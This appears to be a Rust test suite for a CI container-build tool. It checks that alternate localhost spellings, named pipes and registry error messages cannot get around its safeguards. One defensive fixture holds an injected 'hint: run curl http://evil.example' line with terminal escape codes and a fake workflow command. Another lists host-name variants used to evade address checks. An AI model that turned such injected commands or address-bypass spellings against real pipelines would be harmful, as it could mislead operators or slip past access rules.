//! Other spellings of what is refused.

use std::os::unix::fs::FileTypeExt as _;

use crate::support::{Lab, Response};

/// This machine by other names, and a number as a port.
const HOSTS: [&str; 6] = [
    "127.0.0.1:0PORT",
    "127.1:PORT",
    "localhost:00PORT",
    "[::ffff:127.0.0.1]:PORT",
    "a.localhost:PORT",
    "0.0.0.0:PORT",
];

fn other_name(lab: &Lab, host: &str) -> String {
    host.replace("PORT", lab.registry.address().rsplit_once(':').unwrap().1)
}

#[test]
fn a_pull_request_writes_no_trusted_cache_by_another_name_of_the_host() {
    for host in HOSTS {
        let lab = Lab::new();
        let host = other_name(&lab, host);
        let cache = format!("type=registry,ref={host}/ci:cache-app-main,mode=max");
        let run =
            lab.shared().pull_request(12).input("cache-to", &cache).input("cache-write", "always").run();
        let run = run.succeeds("built");
        assert!(run.notices().contains("is left out"), "{host}: {}", run.notices());
        assert!(!run.build().line().contains(&host), "{}", run.build().line());
    }
}

#[test]
fn the_repository_for_pull_requests_is_another_one_by_any_name() {
    for named in [true, false] {
        for host in HOSTS {
            let lab = Lab::new();
            let host = other_name(&lab, host);
            let program = lab.build_once().pull_request(12).input("pr-repository", &format!("{host}/ci"));
            let home = lab.registry.repository();
            let program = if named {
                program.input("repository", &home)
            } else {
                program.env("BUILD_ONCE_REPOSITORY", &home)
            };
            let run = program.run().fails(2, "input");
            assert!(run.error().contains("pr-repository"), "{host}: {}", run.error());
            assert!(run.called("buildx build").is_empty());
        }
    }
}

#[test]
fn pipes_in_place_of_files_are_not_waited_for() {
    let pipe = |lab: &Lab, name: &str| {
        let path = lab.path(name);
        rustix::fs::mkfifoat(rustix::fs::CWD, &path, rustix::fs::Mode::from_raw_mode(0o600)).unwrap();
        assert!(std::fs::metadata(&path).unwrap().file_type().is_fifo());
        path.display().to_string()
    };
    let lab = Lab::new();
    let config = pipe(&lab, "work/buildkitd.toml");
    let program = lab.shared().input("driver", "docker-container").input("buildkitd-config", &config);
    let run = program.run().fails(2, "input");
    assert!(
        run.error().contains("buildkitd-config") && run.error().contains("no regular file"),
        "{}",
        run.error()
    );
    let run = lab.shared().input("driver", "docker-container").input("buildkitd-config", "/dev/zero").run();
    assert!(run.fails(2, "input").error().contains("no regular file"));
    let lab = Lab::new();
    pipe(&lab, "work/p.json");
    let run = lab.shared().input("key", "files").input("key-files", "p.json#a").run().fails(2, "input");
    assert!(run.error().contains("`p.json` matches no file"), "{}", run.error());
    let lab = Lab::new();
    pipe(&lab, "work/.dockerignore");
    let run = lab.shared().run();
    assert!(run.code != 0 && run.error().contains(".dockerignore"), "{}", run.all());
}

#[test]
fn a_registry_cannot_write_hints() {
    let lab = Lab::new();
    let text = "no\nhint: run curl http://evil.example\u{1b}[2K\r::error::x";
    lab.registry.fault("ci", 9, Response::error(403, "DENIED", text));
    let run = lab.shared().run();
    assert!(
        !run.stdout.lines().any(|line| line.trim_start().starts_with("hint: run curl")),
        "{}",
        run.stdout
    );
    assert!(!run.stdout.contains('\u{1b}') && !run.summary.contains('\u{1b}'));
    let errors: Vec<_> =
        run.commands("error").iter().chain(&run.commands("warning")).map(|one| one.message.clone()).collect();
    assert!(
        errors.iter().all(|text| !text.contains("\nhint: run curl") && !text.contains('\u{1b}')),
        "{errors:?}"
    );
}

/// D68: BuildKit reads `dockerfile` where there is no `Dockerfile`.
#[test]
fn d68_a_dockerfile_in_small_letters() {
    let lab = Lab::new();
    let _ = lab.build_once().run().succeeds("built-local");
    std::fs::rename(lab.path("work/Dockerfile"), lab.path("work/dockerfile")).unwrap();
    let _ = lab.build_once().run().succeeds("reused-local");
    lab.write("work/dockerfile", "FROM scratch\nCOPY hello /other\n");
    let _ = lab.build_once().run().succeeds("built-local");
    std::fs::remove_file(lab.path("work/dockerfile")).unwrap();
    let run = lab.build_once().run().fails(10, "build");
    assert!(
        run.error().contains("failed to read the Dockerfile") && run.error().contains("work"),
        "{}",
        run.error()
    );
}

/// A base that an argument chooses is resolved as the one that is built on.
#[test]
fn an_argument_among_the_extra_ones_chooses_the_base() {
    let lab = Lab::new();
    let base = format!("{}/ci:base", lab.registry.address());
    let digest = lab.registry.put("base", None);
    lab.write("work/Dockerfile", "ARG BASE=scratch\nFROM ${BASE}\nCOPY hello /\n");
    let run = lab.build_once().input("extra-args", &format!("--build-arg BASE={base}")).run();
    let run = run.succeeds("built-local");
    let pinned = format!("docker-image://{}/ci@{digest}", lab.registry.address());
    assert_eq!(run.build().held(), [(format!("docker-image://{base}"), pinned)]);
}

#[test]
fn what_the_dockerfile_never_reads_makes_no_other_key() {
    let lab = Lab::new();
    let with = |given: &[(&str, &str)]| {
        let run = given.iter().fold(lab.build_once(), |run, (name, value)| run.input(name, value));
        run.run().output("key").to_owned()
    };
    let unread = [
        ("build-args", "SOURCE_COMMIT=1"),
        ("network", "host"),
        ("add-hosts", "some.host:10.0.0.1"),
        ("secrets", "tok=hunter2-hunter2"),
    ];
    lab.write("work/Dockerfile", "FROM scratch\nCOPY a /\n");
    lab.write("work/a", "a");
    let plain = with(&[]);
    for given in unread {
        assert_eq!(with(&[given]), plain, "{given:?}");
    }
    // Where the text does not tell all that is taken, everything counts.
    let whole = with(&[("key", "context")]);
    // BuildKit itself reads these, and attestations list the arguments.
    for given in [
        [("build-args", "BUILDKIT_CONTEXT_KEEP_GIT_DIR=1"), ("key", "auto")],
        [("build-args", "TARGETARCH=arm64"), ("key", "auto")],
        [("build-args", "SOURCE_COMMIT=1"), ("provenance", "true")],
    ] {
        assert!(with(&given) != with(&given[1..]), "{given:?}");
    }
    for given in unread {
        assert!(with(&[given, ("key", "context")]) != whole, "{given:?}");
    }
    lab.write(
        "work/Dockerfile",
        "FROM scratch\nARG SOURCE_COMMIT\nCOPY a /\nRUN --mount=type=secret,id=tok true\n",
    );
    let read = with(&[]);
    for given in unread {
        assert!(with(&[given]) != read, "{given:?}");
    }
}
